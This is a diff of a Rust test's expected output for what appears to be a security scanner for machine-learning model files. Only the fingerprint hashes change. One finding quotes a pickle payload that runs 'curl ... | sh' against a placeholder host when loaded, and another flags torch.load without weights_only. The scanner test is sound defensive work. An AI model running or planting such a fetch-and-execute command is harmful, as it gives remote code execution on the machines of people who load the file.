@@ -32,7 +32,7 @@ fn one_of_each() {
       {
         "description": "loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system (at archive/data.pkl @ 0x1f REDUCE)",
         "check_name": "global-not-allowed",
-        "fingerprint": "e22a1ff902eee8fade8a04fee3bdbaa4002e7eefcea28990abefe768d80fec32",
+        "fingerprint": "680ee10dce24e9ea60bdf8707afba2f643b25ac269b46bcffa8325e955149dc6",
         "severity": "critical",
         "location": {
           "path": "models/resnet.pt",
@@ -44,7 +44,7 @@ fn one_of_each() {
       {
         "description": "torch.load without weights_only=True runs what the file says",
         "check_name": "unsafe-load",
-        "fingerprint": "f6b5301beb0cab6efbcdfd8c012207bc3e2a37857683444cad2ddf40007846bc",
+        "fingerprint": "d2897dc8aac916b6d6f2f767f063a2b3db82e7343644fffd2528e86a7398cee9",
         "severity": "minor",
         "location": {
           "path": "src/train.py",
